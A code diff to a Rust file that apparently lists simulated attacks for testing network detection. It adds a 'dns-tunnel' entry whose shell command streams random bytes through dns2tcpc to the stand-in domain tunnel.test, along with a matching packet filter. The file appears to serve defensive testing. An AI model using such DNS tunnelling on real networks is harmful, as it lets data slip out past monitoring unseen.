@@ -172,6 +172,18 @@ pub const ATTACKS: &[Attack] = &[
         accomplice: None,
     },
     Attack {
+        name: "dns-tunnel",
+        technique: "T1071.004",
+        story: "the infected recorder carries data away through the gateway's own resolver, with dns2tcp",
+        origin: Origin::Device("recorder"),
+        needs_baseline: false,
+        tool: "sh -c 'while :; do head -c 200 /dev/urandom; sleep 0.2; done | dns2tcpc -z tunnel.test -r sink -l - {gateway}'",
+        // The gateway asks in the recorder's place, and asks for nothing as long by itself.
+        filter: "udp dst port 53 and greater 150",
+        arrives: Arrival::Internet,
+        accomplice: None,
+    },
+    Attack {
         name: "c2-beacon",
         technique: "T1071",
         story: "the infected recorder asks its command server for orders every second",
